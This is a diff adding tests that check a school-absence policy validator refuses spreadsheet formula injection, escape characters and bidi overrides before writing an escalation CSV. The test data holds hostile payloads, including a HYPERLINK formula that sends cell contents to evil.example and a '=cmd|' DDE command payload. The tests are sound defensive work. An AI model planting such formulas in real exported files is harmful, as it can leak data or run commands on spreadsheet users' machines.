@@ -578,6 +578,37 @@ REFUSALS: dict[str, tuple[str, str | None, tuple[str, ...]]] = {
         "[steps.responsible]",
         ("field 'steps.0.responsible.en'", "Field required"),
     ),
+    "responsible-begins-a-formula": (
+        AALBORG.replace('da = "Klasseteamet"', 'da = "@SUM(1+1)"'),
+        "@SUM",
+        ("field 'steps.0.responsible.da'", "begins with =, +, - or @"),
+    ),
+    "action-begins-a-formula-after-spaces": (
+        AALBORG.replace(
+            '"Klasseteamet afdækker årsagerne til fraværet.",',
+            '"  =HYPERLINK(\\"http://evil.example/?\\"&A2,\\"klik\\")",',
+        ),
+        "da = [",
+        ("field 'steps.0.actions.da.0'", "begins with =, +, - or @"),
+    ),
+    "action-with-an-escape-character": (
+        AALBORG.replace(
+            '"Klasseteamet afdækker årsagerne til fraværet.",',
+            '"Klasseteamet \\u001b[31mafdækker.",',
+        ),
+        "da = [",
+        ("field 'steps.0.actions.da.0'", "control or invisible character"),
+    ),
+    "title-with-a-bidi-override": (
+        AALBORG.replace('da = "Aalborg', 'da = "\\u202eAalborg', 1),
+        "\\u202e",
+        ("field 'title.da'", "control or invisible character"),
+    ),
+    "source-begins-a-formula": (
+        AALBORG.replace('source = "', 'source = "-2+3 ', 1),
+        "source =",
+        ("field 'source'", "begins with =, +, - or @"),
+    ),
     "invalid-toml": (
         AALBORG.replace('version = "2023.1"', 'version = "2023.1'),
         "version =",
@@ -917,6 +948,39 @@ def test_cli_policy_validate_on_the_examples(path: Path) -> None:
         assert result.stderr.count("\n") == 1
     else:
         assert result.exit_code == 0, result.output
+
+
+def test_policy_action_text_is_no_live_formula_in_csv(tmp_path: Path) -> None:
+    """Policy texts reach the escalation CSV as they are: one that a spreadsheet would run
+    (``@SUM(1+1)``, ``=cmd|' /C calc'!A0``, ``=HYPERLINK(...)``) or that holds an escape
+    character is refused like a hostile id (docs/privacy.md#what-is-refused-on-reading)."""
+    text = (
+        AALBORG.replace('name = "aalborg-2023"', 'name = "hostile-policy"')
+        .replace('series = "aalborg"\n', "")
+        .replace('da = "Klasseteamet"', 'da = "@SUM(1+1)"')
+        .replace(
+            '"Klasseteamet afdækker årsagerne til fraværet.",',
+            '"=HYPERLINK(\\"http://evil.example/?\\"&A2,\\"klik\\")", "\\u001b[31mRED",',
+        )
+        .replace('da = "Tovholder"', "da = \"=cmd|' /C calc'!A0\"")
+    )
+    path = tmp_path / "policy.toml"
+    path.write_text(text, encoding="utf-8")
+    out = tmp_path / "e.csv"
+
+    validate = run("policy", "validate", path)
+    escalate = run("escalate", ROOT / "examples" / "demo-export.csv", "--since", "2024-02-23",
+                   "--policy", path, "-o", out)  # fmt: skip
+
+    line = line_of(text, "@SUM")
+    for result in (validate, escalate):
+        assert result.exit_code == 78, result.output
+        assert result.stdout == ""
+        assert result.stderr == (
+            f"fravaer: error: {path}:{line}: field 'steps.0.responsible.da': text begins with "
+            "=, +, - or @, which a spreadsheet would run as a formula (and 5 more)\n"
+        )
+    assert not out.exists()
 
 
 def test_cli_policy_validate_refuses_a_file_not_ending_in_toml(tmp_path: Path) -> None:
